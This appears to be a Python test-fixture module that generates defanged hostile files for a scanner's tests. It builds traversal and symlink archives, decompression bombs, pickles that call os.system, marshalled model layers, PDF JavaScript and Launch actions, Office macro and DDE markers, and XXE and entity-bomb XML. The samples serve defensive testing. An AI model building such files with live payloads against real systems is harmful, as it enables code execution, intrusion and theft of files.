"""Hostile files, made harmless at test time: each would leave a sentinel file behind if anything in it were run.

Archives, pickles, scripts and documents. Nothing here is loaded by the tests; no such file is kept in the tree.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import stat
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import numpy as np
import pyarrow as pa


class Hostile(NamedTuple):
    """A file, the scanner that must find it, and the code of the finding."""

    name: str
    data: bytes
    scanner: str
    code: str


def hostile(sentinel: Path) -> list[Hostile]:
    """Every vector in several disguises; each that can run makes the file `sentinel`."""
    made = [*archives(), *damaged_archives(), *pickles(sentinel), *models(sentinel), *scripts(), *documents()]
    return [Hostile(name, data, scanner, code) for name, data, scanner, code in made]


class _Touch:
    def __init__(self, sentinel: Path) -> None:
        self._sentinel = sentinel

    def __reduce__(self):
        return os.system, (f"touch {self._sentinel}",)


def zipped(*members, comment=b"", method=zipfile.ZIP_DEFLATED):
    """A zip of names (or ZipInfos) and bytes."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.simplefilter("ignore")
        archive.comment = comment
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def tarred(*members, pax=None):
    """A tar of (name, bytes, other fields of its header)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT, pax_headers=pax) as archive:
        for name, data, fields in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in fields.items():
                setattr(info, key, value)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _linked(name, mode):
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def archives() -> Iterator[tuple[str, bytes, str, str]]:
    up = "../" * 6 + "sentinel"
    link = {"type": tarfile.SYMTYPE, "linkname": "../../etc"}
    yield "slip.zip", zipped(("a.txt", b"a"), (up, b"x")), "archives", "traversal"
    yield "slip_windows.zip", zipped(("..\\..\\sentinel", b"x")), "archives", "traversal"
    yield "slip_spaces.zip", zipped(("a/.. /.. /.. /x", b"x")), "archives", "traversal"
    yield "slip_renamed.txt", zipped(("docs/../../x", b"x")), "archives", "traversal"
    yield "slip.tar", tarred((up, b"x", {})), "archives", "traversal"
    yield "slip.tgz", gzip.compress(tarred((up, b"x", {})), mtime=0), "archives", "traversal"
    yield "slip.tar.xz", lzma.compress(tarred((up, b"x", {}))), "archives", "traversal"
    yield "slip_pax.tar", tarred(("a.txt", b"x", {"pax_headers": {"path": up}})), "archives", "traversal"
    yield "absolute.zip", zipped(("/tmp/sentinel", b"x")), "archives", "absolute_name"
    yield "drive.zip", zipped(("C:\\sentinel", b"x")), "archives", "absolute_name"
    yield "share.zip", zipped(("\\\\host\\share\\x", b"x")), "archives", "absolute_name"
    yield "absolute.tar.bz2", bz2.compress(tarred(("/tmp/sentinel", b"x", {}))), "archives", "absolute_name"
    yield "symlink.zip", zipped((_linked("l", stat.S_IFLNK | 0o777), b"/etc")), "archives", "link_out"
    yield "symlink.tar", tarred(("l", b"", link)), "archives", "link_out"
    yield "hardlink.tar", tarred(("l", b"", {**link, "type": tarfile.LNKTYPE})), "archives", "link_out"
    inside = {"type": tarfile.SYMTYPE, "linkname": "d"}
    yield "through.tar", tarred(("l", b"", inside), ("l/x", b"x", {})), "archives", "link_out"
    turned = {"type": tarfile.SYMTYPE, "linkname": "d/l/../../x"}
    yield "turned.tar", tarred(("a/b/l", b"", turned)), "archives", "link_out"
    yield "device.tar", tarred(("d", b"", {"type": tarfile.CHRTYPE})), "archives", "device"
    yield "device.zip", zipped((_linked("d", stat.S_IFIFO), b"")), "archives", "device"
    yield "bidi.zip", zipped(("data\u202egpj.exe", b"x")), "archives", "odd_name"
    yield "twice.zip", zipped(("a", b"x"), ("./a", b"y")), "archives", "duplicate_name"
    yield "closed.7z", b"7z\xbc\xaf'\x1c" + bytes(40), "archives", "unopened_archive"
    zeros = bytes(3_000_000)
    yield "bomb.zip", zipped(("a", zeros)), "archives", "ratio"
    yield "bomb.gz", gzip.compress(zeros, mtime=0), "archives", "ratio"
    yield "bomb.bz2", bz2.compress(zeros), "archives", "ratio"
    yield "bomb.xz", lzma.compress(zeros), "archives", "ratio"
    yield "bomb.zst", pa.compress(zeros, codec="zstd", asbytes=True), "archives", "ratio"
    yield "bomb.tgz", gzip.compress(tarred(("a", zeros, {})), mtime=0), "archives", "ratio"
    yield (
        "name.gz",
        b"\x1f\x8b\x08\x08" + bytes(6) + b"../x\0" + gzip.compress(b"x", mtime=0)[10:],
        "archives",
        "traversal",
    )


def damaged_archives() -> Iterator[tuple[str, bytes, str, str]]:
    plain = zipped(("a.txt", b"a" * 50), ("b.txt", b"b" * 50), method=zipfile.ZIP_STORED)
    yield "cut.zip", plain[:-40], "archives", "damaged_archive"
    yield "cut.gz", gzip.compress(b"abc" * 90, mtime=0)[:-6], "archives", "damaged_archive"
    yield "cut.tar", tarred(("a", b"x" * 900, {}))[:1100], "archives", "damaged_archive"
    yield "wrong_sum.zip", plain.replace(b"a" * 50, b"z" * 50), "archives", "damaged_archive"
    yield "other_name.zip", plain.replace(b"a.txt", b"x.pkl", 1), "archives", "disagreeing_headers"
    flagged = plain.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0")
    yield "not_encrypted.zip", flagged, "archives", "disagreeing_headers"
    yield "encrypted.zip", _encrypted(), "archives", "encrypted_member"
    yield "two_directories.zip", zipped(("a", b"x"), comment=plain), "archives", "disagreeing_headers"
    yield "behind.png", b"\x89PNG\r\n\x1a\n" + plain, "archives", "polyglot"
    yield "more.zip", plain + b"more", "archives", "polyglot"
    yield "more.gz", gzip.compress(b"x", mtime=0) + b"more", "archives", "polyglot"
    yield "more.tar", tarred(("a", b"x", {})) * 2, "archives", "polyglot"
    yield "hidden.zip", _without_first(plain), "archives", "hidden_member"
    yield "hidden_between.zip", _without_second(), "archives", "hidden_member"
    yield "overlap.zip", _overlapping(), "archives", "overlap"
    sizes = tarred(("a", b"x" * 600, {"pax_headers": {"size": "5"}}))
    yield "sizes.tar", sizes, "archives", "disagreeing_headers"
    sparse = {"pax_headers": {"GNU.sparse.major": "1", "GNU.sparse.realsize": "99999999999"}}
    yield "sparse.tar", tarred(("a", b"x" * 600, sparse)), "archives", "ratio"
    attached = b"From: a@b.c\r\nMIME-Version: 1.0\r\nSubject: s\r\nContent-Type: application/x\r\n"
    attached += b'Content-Disposition: attachment; filename="../../x.sh"\r\n\r\nbody\r\n'
    yield "attached.eml", attached, "archives", "traversal"


def _encrypted() -> bytes:
    plain = bytearray(zipped(("a.txt", bytes(range(60))), method=zipfile.ZIP_STORED))
    plain[6] |= 1
    plain[plain.find(b"PK\x01\x02") + 8] |= 1
    body = plain.find(bytes(range(60)))
    plain[body : body + 60] = bytes(byte ^ 90 for byte in range(60))
    return bytes(plain)


def _directory(data: bytes, keep: slice) -> bytes:
    """The zip with only some entries in its directory, and with its end record made right."""
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entries = [b"PK\x01\x02" + entry for entry in data[start:end].split(b"PK\x01\x02")[1:]]
    kept = b"".join(entries[keep])
    count = len(entries[keep]).to_bytes(2, "little")
    tail = data[end : end + 8] + count * 2 + len(kept).to_bytes(4, "little") + start.to_bytes(4, "little") + b"\0\0"
    return data[:start] + kept + tail


def _without_first(data: bytes) -> bytes:
    return _directory(data, slice(1, None))


def _without_second() -> bytes:
    return _directory(zipped(("a", b"x"), ("b", b"y"), ("c", b"z")), slice(None, None, 2))


def _overlapping() -> bytes:
    """Two entries of the directory for the same bytes, as in bombs that need no depth."""
    data = zipped(("a", b"x" * 99))
    start, end = data.find(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
    entry = data[start:end]
    size = (2 * len(entry)).to_bytes(4, "little")
    return data[:start] + entry * 2 + data[end : end + 8] + b"\2\0\2\0" + size + data[end + 16 :]


def pickles(sentinel: Path) -> Iterator[tuple[str, bytes, str, str]]:
    touch = _Touch(sentinel)
    command = f"touch {sentinel}".encode()
    short = bytes([len(command)]) + command
    for protocol in range(6):
        yield f"model{protocol}.pkl", pickle.dumps({"weights": [1, touch]}, protocol), "pickles", "pickle_code"
    whole = pickle.dumps(touch)
    yield "notes.txt", whole, "pickles", "pickle_code"
    yield "picture.gif", b"GIF89a" + bytes(20) + whole, "pickles", "pickle_code"
    yield "old_behind.gif", b"GIF89a" + bytes(20) + pickle.dumps(touch, 0), "pickles", "pickle_code"
    yield "stacked.pt", pickle.dumps(1) + pickle.dumps([2]) + whole, "pickles", "pickle_code"
    yield "crowd.pkl", pickle.dumps(1) * 50 + whole, "pickles", "pickle_code"
    yield "torn.pkl", pickle.dumps([touch, "x" * 99])[:-30], "pickles", "pickle_code"
    memo = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c" + short + b"\x85R."
    yield "from_memo.bin", memo, "pickles", "pickle_code"
    yield "no_magic.bin", b"\x8c\x02os\x8c\x06system\x93\x8c" + short + b"\x85R.", "pickles", "pickle_code"
    yield "inst.bin", b"(S'" + command + b"'\nios\nsystem\n.", "pickles", "pickle_code"
    yield "inst_behind.bin", b"some text (S'" + command + b"'\nios\nsystem\n.", "pickles", "pickle_code"
    yield "obj.bin", b"(cos\nsystem\nS'" + command + b"'\no.", "pickles", "pickle_code"
    yield "dotted.bin", b"\x80\x04\x8c\x0bcollections\x8c\x12OrderedDict.update\x93)R.", "pickles", "pickle_code"
    yield "computed.bin", b"\x80\x04\x8c\x02osK\x01\x93)R.", "pickles", "pickle_code"
    yield "extension.bin", b"\x80\x02\x82\x01)R.", "pickles", "pickle_code"
    yield "bad_text.bin", b"S'\xff'\n0cos\nsystem\n(S'" + command + b"'\ntR.", "pickles", "pickle_code"
    yield "only_import.bin", b"\x80\x02cantigravity\ngeohash\n.", "pickles", "pickle_code"
    yield "joblib.z", zlib.compress(whole), "pickles", "pickle_code"
    out = io.BytesIO()
    np.save(out, np.array([{"a": 1}, touch], dtype=object), allow_pickle=True)
    yield "array.npy", out.getvalue(), "pickles", "pickle_code"
    yield "plain.pkl", pickle.dumps({"a": np.arange(3)}), "pickles", "pickle"
    yield "plain_old.pkl", pickle.dumps({"a": [1, 2]}, 0), "pickles", "pickle"


def models(sentinel: Path) -> Iterator[tuple[str, bytes, str, str]]:
    code = compile(f"open({str(sentinel)!r}, 'w')", "x", "exec")
    packed = marshal.dumps(code)
    layer = {"class_name": "__lambda__", "config": {"code": base64.b64encode(packed).decode()}}
    config = json.dumps({"layers": [{"class_name": "Lambda", "config": {"function": layer}}]})
    yield "config.json", config.encode(), "pickles", "lambda_layer"
    yield "escaped.json", config.replace("Lambda", "\\u004cambda").encode(), "pickles", "lambda_layer"
    yield "model.h5", b"\x89HDF\r\n\x1a\n" + bytes(99) + config.encode(), "pickles", "lambda_layer"
    yield "saved_model.pb", b"\x08\x01\x12\x20\x0a\x01w\x12\x09WriteFile\x1a\x01x", "pickles", "graph_op"
    yield "module.pyc", b"\xa7\x0d\r\n" + bytes(12) + packed, "pickles", "bytecode"
    yield "module.dat", packed, "pickles", "bytecode"
    yield "object.ser", b"\xac\xed\0\5sr\0\x11java.util.HashMap", "pickles", "java_object"
    yield "m.safetensors", (1 << 40).to_bytes(8, "little") + b'{"a":{}}', "pickles", "odd_header"


def scripts() -> Iterator[tuple[str, bytes, str, str]]:
    builder = b"from datasets import %s\nclass Mine(%s):\n    def _info(self): pass\n"
    whole = b"GeneratorBasedBuilder"
    yield "mine.py", builder % (whole, whole), "scripts", "loading_script"
    yield "mine.txt", builder % (whole, whole), "scripts", "loading_script"
    yield "alias.py", builder % (b"ArrowBasedBuilder as Plain", b"Plain"), "scripts", "loading_script"
    yield "dotted.py", b"import datasets as d\nclass M(d.DatasetBuilder): pass\n", "scripts", "loading_script"
    yield "methods.py", b"class M(X):\n    def _split_generators(self, m): pass\n", "scripts", "loading_script"
    yield "broken.py", b"print 1\nclass M(GeneratorBasedBuilder): pass\n", "scripts", "loading_script"
    yield "data.csv", b"\x7fELF\2\1\1" + bytes(60), "scripts", "executable"
    yield "photo.jpg", b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0", "scripts", "executable"
    yield "more.dat", b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(9), "scripts", "executable"
    yield "run", b"#!/bin/sh\ntouch sentinel\n", "scripts", "executable"
    yield "start.bat", b"echo 1\r\n", "scripts", "executable"
    yield "readme.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "scripts", "executable"
    yield "lib.jar", zipped(("META-INF/MANIFEST.MF", b"x"), ("A.class", b"y")), "scripts", "executable"
    yield "pkg/setup.py", b"print(1)\n", "scripts", "autorun"
    yield "x.pth", b"import os; os.system('true')\n", "scripts", "autorun"
    mapped = {"model_type": "x", "auto_map": {"AutoModel": "owner/repo--modeling.Model"}}
    yield "config.json", json.dumps(mapped).encode(), "scripts", "remote_code"
    yield "deep.json", json.dumps({"a": [{"b": {"trust_remote_code": True}}]}).encode(), "scripts", "remote_code"
    yield "escaped.json", b'{"\\u0061uto_map": {"AutoModel": "m.M"}}', "scripts", "remote_code"
    yield "kernels.json", b'{"_attn_implementation": "owner/kernels"}', "scripts", "remote_code"
    yield "hydra.yaml", b"model:\n  _target_: os.system\n", "scripts", "remote_code"
    yield "jsonpickle.json", b'[{"py/object": "os.system"}]', "scripts", "remote_code"
    yield "card.md", b"---\nlicense: mit\ntrust_remote_code: true\n---\n# Data\n", "scripts", "remote_code"
    yield "asks.md", b"# Data\n\nload_dataset('x', trust_remote_code=True)\n", "scripts", "remote_code"


def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _object_stream(filters: bytes, data: bytes) -> bytes:
    return b">>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter " + filters + b" >>\nstream\n" + data + b"\nendstream <<"


def documents() -> Iterator[tuple[str, bytes, str, str]]:
    script = b"<< /S /JavaScript /JS (app.launchURL('x')) >>"
    deep = base64.a85encode(zlib.compress(script)) + b"~>"
    part = "active_documents"
    yield "script.pdf", _pdf(b"/OpenAction " + script), part, "pdf_script"
    yield "escaped.pdf", _pdf(script.replace(b"JavaScript", b"J#61vaScr#69pt")), part, "pdf_script"
    yield "in_stream.pdf", _pdf(_object_stream(b"/FlateDecode", zlib.compress(script))), part, "pdf_script"
    yield "twice.pdf", _pdf(_object_stream(b"[/ASCII85Decode /Fl]", deep)), part, "pdf_script"
    commented = b"% << >> stream\n3 0 obj << /X " + script + b" >> endobj\nendstream\n"
    yield "commented.pdf", _pdf(b">>\n" + commented + b"<<"), part, "pdf_script"
    yield "odd_filter.pdf", _pdf(_object_stream(b"/LZWDecode", b"x")), part, "pdf_unseen"
    yield "launch.pdf", _pdf(b"/AA << /S /Launch /F (cmd.exe) >>"), part, "pdf_launch"
    yield "attached.pdf", _pdf(b"/X << /Type /EmbeddedFile >>"), part, "embedded_file"
    yield "share.pdf", _pdf(b"/A << /S /GoToR /F (\\\\\\\\host\\\\share) >>"), part, "external_target"
    yield "hex.pdf", _pdf(b"/A << /S /URI /URI <" + b"file:///etc".hex().encode() + b"> >>"), part, "external_target"
    yield from _office(part)
    yield from _xml(part)


def _office(part: str) -> Iterator[tuple[str, bytes, str, str]]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    yield "word/vbaProject.bin", ole + "_VBA_PROJECT".encode("utf-16-le"), part, "macro"
    yield "old.xls", ole + b"\x85\0\x0e\0" + bytes(4) + b"\0\1\6\0Macro1", part, "macro"
    yield "oleObject1.bin", ole + "\x01Ole10Native".encode("utf-16-le"), part, "embedded_object"
    sheet = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    yield "xl/macrosheets/sheet1.xml", sheet, part, "macro"
    spaces = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    kinds = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    template = spaces + b'<Relationship Type="' + kinds + b'attachedTemplate" Target="https://x.example/t.dotm" '
    yield "word/_rels/settings.xml.rels", template + b'TargetMode="External"/>', part, "external_target"
    linked = spaces + b"<Relationship Type='" + kinds + b"hyperlink' Target='&#102;ile://host/x' "
    yield "word/_rels/document.xml.rels", linked + b"TargetMode='External'/>", part, "external_target"
    field = b"<w:document><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText>"
    yield "word/document.xml", field, part, "dde"
    single = b"<x:document><x:fldSimple a='>' x:instr='DDEAUTO c:\\\\x'/>"
    yield "word/document.xml", single, part, "dde"
    wide = (template + b'a="b>c" TargetMode="External"/>').decode().encode("utf-16")
    yield "word/_rels/header.xml.rels", wide, part, "external_target"
    yield "memo.doc", b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", part, "embedded_object"
    yield "memo.rtf", b"{\\rtf1 {\\*\\template http://x.example/t.dot}}", part, "external_target"


def _xml(part: str) -> Iterator[tuple[str, bytes, str, str]]:
    lol = '<!DOCTYPE l [<!ENTITY a "lolololol">'
    lol += "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    lol += "]><l>&i;</l>"
    yield "lol.xml", lol.encode(), part, "entity_bomb"
    yield "lol16.svg", ('<?xml version="1.0" encoding="utf-16"?>' + lol).encode("utf-16"), part, "entity_bomb"
    yield "circle.xml", b'<!DOCTYPE l [<!ENTITY a "&b;"><!ENTITY b "&a;">]><l>&a;</l>', part, "entity_bomb"
    flat = b'<!DOCTYPE l [<!ENTITY a "' + b"x" * 20_000 + b'">]><l>' + b"&a;" * 20_000
    yield "flat.xml", flat, part, "entity_bomb"
    yield "file.xml", b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>', part, "external_entity"
    yield (
        "parameter.xml",
        b"<!DOCTYPE l [<!ENTITY % x SYSTEM 'http://x.example/a.dtd'> %x;]><l/>",
        part,
        "external_entity",
    )
    yield "dtd.xml", b'<!DOCTYPE l SYSTEM "http://x.example/a.dtd"><l/>', part, "external_entity"
    yield "image.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>", part, "page_script"
    yield "page.html", b"<html><body onload=x()><a href=' java\nscript:x()'>a</a></body></html>", part, "page_script"
